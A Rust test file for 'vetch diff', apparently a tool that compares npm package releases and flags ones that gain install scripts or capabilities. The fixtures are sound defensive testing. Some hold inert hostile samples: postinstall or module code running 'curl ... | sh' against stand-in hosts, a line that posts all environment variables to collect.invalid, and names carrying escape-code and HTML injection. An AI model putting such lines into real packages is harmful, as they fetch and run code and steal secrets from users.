//! `vetch diff` of two releases.

use std::fs;

use serde_json::Value;
use vetch_testkit::{NpmRegistry, Pkg, Project};

use crate::vetch;

fn quiet(version: &str) -> Pkg {
    Pkg::new("tool", version).file("index.js", "module.exports = (a, b) => a + b;\n")
}

/// It fetches and runs something when installed. Inert: the host does not exist.
fn noisy(version: &str) -> Pkg {
    quiet(version).script("postinstall", "node setup.js").dep("helper", "^1.0.0").file(
        "setup.js",
        "const { execSync } = require('child_process');\nexecSync('curl -s http://drop.invalid/x | sh');\n",
    )
}

/// Two archives in a folder.
fn archives(old: &Pkg, new: &Pkg) -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("old.tgz"), old.tarball()).unwrap();
    fs::write(folder.path().join("new.tgz"), new.tarball()).unwrap();
    folder
}

#[test]
fn what_the_new_release_does_comes_first() {
    let folder = archives(&quiet("1.0.0"), &noisy("1.0.1"));
    let run = vetch(&["diff", "old.tgz", "new.tgz", "--offline"]).dir(folder.path()).run().expect(1);
    insta::assert_snapshot!(run.stdout);
}

#[test]
fn every_form_says_the_same() {
    let folder = archives(&quiet("1.0.0"), &noisy("1.0.1"));
    let form = |format: &str| {
        let line = ["diff", "old.tgz", "new.tgz", "--offline", "--format", format];
        vetch(&line).dir(folder.path()).run().expect(1)
    };
    let json: Value = form("json").json();
    assert_eq!(json["schema"], "vetch.release-diff/1");
    assert_eq!(json["change"]["install_commands"][0]["command"], "node setup.js");
    assert_eq!(json["change"]["dependencies"][0]["name"], "helper");
    let gained = json["change"]["gained"].as_array().unwrap();
    assert!(gained.iter().any(|capability| capability["id"] == "process.spawn"), "{gained:?}");
    for text in [form("markdown").stdout, form("html").stdout, form("terminal").stdout] {
        for words in ["tool@1.0.0", "tool@1.0.1", "malicious", "node setup.js", "helper", "setup.js:2"] {
            assert!(text.contains(words), "`{words}` is not in\n{text}");
        }
    }
}

#[test]
fn files_that_are_new_gone_or_no_longer_the_same_are_named() {
    let line = "exports.table = [1, 2, 3];\n";
    let old = quiet("1.0.0").file("lib/a.js", line).file("lib/b.js", line).field("main", "lib/a.js".into());
    let grown = line.repeat(1_000);
    let new = quiet("1.0.1").file("lib/a.js", grown).file("lib/c.js", line).field("main", "lib/a.js".into());
    let folder = archives(&old, &new);
    let form = |format: &str| {
        vetch(&["diff", "old.tgz", "new.tgz", "--offline", "--format", format]).dir(folder.path()).run().expect(0)
    };
    let text = form("terminal").stdout;
    for words in [
        "lib/a.js grew from 27 bytes to",
        "new code: lib/c.js",
        "changed code: lib/a.js",
        "code that is gone: lib/b.js",
    ] {
        assert!(text.contains(words), "{words}: {text}");
    }
    let json = form("json").json();
    let files = json["change"]["changed_files"].as_array().unwrap();
    let paths: Vec<&str> = files.iter().map(|file| file["path"].as_str().unwrap()).collect();
    assert_eq!(paths, ["lib/a.js", "lib/b.js", "lib/c.js", "package.json"]);
    assert_eq!((&files[0]["before"], &files[1]["now"]), (&27.into(), &Value::Null));
}

#[test]
fn releases_that_do_the_same_pass() {
    let folder = archives(&quiet("1.0.0"), &quiet("1.0.1"));
    let run = vetch(&["diff", "old.tgz", "new.tgz", "--offline"]).dir(folder.path()).run().expect(0);
    assert!(run.stdout.contains("Nothing differs"), "{}", run.stdout);
}

#[test]
fn a_named_release_is_compared_with_the_one_before_it() {
    let registry = NpmRegistry::builder();
    let registry = registry.package(quiet("1.0.0")).package(quiet("2.0.0")).package(noisy("1.0.1")).start();
    let project =
        Project::builder("app").registry(&registry.url()).user_npmrc(&format!("registry={}\n", registry.url()));
    let project = project.build();
    let diff =
        |line: &[&str]| vetch(&["diff"]).args(line.iter().copied()).dir(project.root()).home(project.home()).run();
    let run = diff(&["--previous", "npm:tool@1.0.1"]).expect(1);
    assert!(run.stdout.starts_with("tool@1.0.0 → tool@1.0.1"), "{}", run.stdout);
    let run = diff(&["npm:tool@1.0.0", "npm:tool@2.0.0"]).expect(0);
    assert!(run.stdout.starts_with("tool@1.0.0 → tool@2.0.0"), "{}", run.stdout);
    let run = diff(&["npm:tool@1.0.0", "npm:tool@3.0.0"]);
    assert!([2, 3].contains(&run.status) && !run.stdout.contains("clean"), "{} {}", run.stdout, run.stderr);
    let run = diff(&["--previous", "npm:tool@1.0.0"]).expect(2);
    assert!(run.stderr.contains("no release before"), "{}", run.stderr);
}

#[test]
fn a_change_of_lockfiles_is_reviewed_release_by_release() {
    let registry = NpmRegistry::builder().package(quiet("1.0.0")).package(noisy("1.0.1"));
    let registry = registry.package(Pkg::new("other", "2.0.0").file("index.js", "module.exports = 1;\n")).start();
    let settings = format!("registry={}\n", registry.url());
    let project = |tool: Pkg, more: &[Pkg]| {
        let project = Project::builder("app").registry(&registry.url()).user_npmrc(&settings).lock_only(tool);
        more.iter().fold(project, |project, pkg| project.lock_only(pkg.clone())).build()
    };
    let old = project(quiet("1.0.0"), &[]);
    let new = project(noisy("1.0.1"), &[Pkg::new("other", "2.0.0").file("index.js", "module.exports = 1;\n")]);
    let paths = [old.root().display().to_string(), new.root().display().to_string()];
    let line = ["diff", &paths[0], &paths[1], "--review"];
    let json = vetch(&line).args(["--format", "json"]).home(new.home()).run().expect(1).json();
    let releases = json["releases"].as_array().unwrap();
    let told: Vec<_> =
        releases.iter().map(|it| (&it["release"]["purl"], &it["release"]["verdict"], &it["old"])).collect();
    assert_eq!(told[0], (&"pkg:npm/tool@1.0.1".into(), &"malicious".into(), &"1.0.0".into()));
    assert_eq!((told[1].0, told.len()), (&"pkg:npm/other@2.0.0".into(), 2));
    assert!(!releases[0]["change"]["gained"].as_array().unwrap().is_empty());
    let text = vetch(&line).home(new.home()).run().expect(1).stdout;
    assert!(text.contains("What it does") && text.contains("other@2.0.0"), "{text}");
}

#[test]
fn hostile_names_act_on_nothing() {
    let file = "a\u{1b}[31m.js";
    let new = quiet("1.0.1").script("postinstall", "node <img src=x>\u{1b}[2J").file(file, "1");
    let folder = archives(&quiet("1.0.0"), &new);
    for format in ["terminal", "markdown", "html", "json"] {
        let line = ["diff", "old.tgz", "new.tgz", "--offline", "--allow-incomplete", "--format", format];
        let run = vetch(&line).dir(folder.path()).run();
        assert!(!run.stdout.contains('\u{1b}'), "{format}: {}", run.stdout);
        assert!(format == "terminal" || format == "json" || !run.stdout.contains("<img"), "{format}: {}", run.stdout);
    }
}

#[test]
fn what_a_release_does_that_its_source_does_not_is_told() {
    let folder = tempfile::tempdir().unwrap();
    let source = folder.path().join("checkout");
    let write = |path: &str, text: &str| {
        let path = source.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    };
    // A repository of several packages, each built into `dist`.
    write("package.json", r#"{"name": "tools", "private": true, "workspaces": ["packages/*"]}"#);
    write("packages/other/package.json", r#"{"name": "other", "version": "1.0.0"}"#);
    write("packages/other/index.js", "require('child_process').execSync('curl http://192.0.2.7/ | sh');\n");
    write("packages/tool/package.json", r#"{"name": "tool", "version": "1.0.0", "main": "dist/index.js"}"#);
    write(
        "packages/tool/src/index.ts",
        "import { readFile } from 'node:fs/promises';\nexport const load = (url: string) => fetch('https://api.example.com/' + url);\n",
    );
    let built = "const { readFile } = require('fs/promises');\nexports.load = (url) => fetch('https://api.example.com/' + url);\n";
    let faithful = Pkg::new("tool", "1.0.0").field("main", "dist/index.js".into()).file("dist/index.js", built);
    let stealing = "fetch('https://collect.invalid/', { method: 'POST', body: JSON.stringify(process.env) });\n";
    let added = faithful.clone().file("dist/index.js", format!("{built}{stealing}"));
    fs::write(folder.path().join("faithful.tgz"), faithful.tarball()).unwrap();
    fs::write(folder.path().join("added.tgz"), added.tarball()).unwrap();
    let gained = |archive: &str, status: i32| {
        let line = ["diff", archive, "--source", "checkout", "--offline", "--format", "json"];
        let json: Value = vetch(&line).dir(folder.path()).run().expect(status).json();
        json["change"]["gained"]
            .as_array()
            .unwrap()
            .iter()
            .map(|it| it["id"].as_str().unwrap().to_owned())
            .collect::<Vec<_>>()
    };
    assert_eq!(gained("faithful.tgz", 0), Vec::<String>::new());
    let found = gained("added.tgz", 1);
    assert!(found.contains(&"env.enumerate".to_owned()) && found.contains(&"net.connect".to_owned()), "{found:?}");
    // A folder without code of its ecosystem is no source of it.
    fs::create_dir(folder.path().join("empty")).unwrap();
    let run = vetch(&["diff", "added.tgz", "--source", "empty", "--offline"]).dir(folder.path()).run().expect(2);
    assert!(run.stderr.contains("there is no source of `tool` in `empty`"), "{}", run.stderr);
}
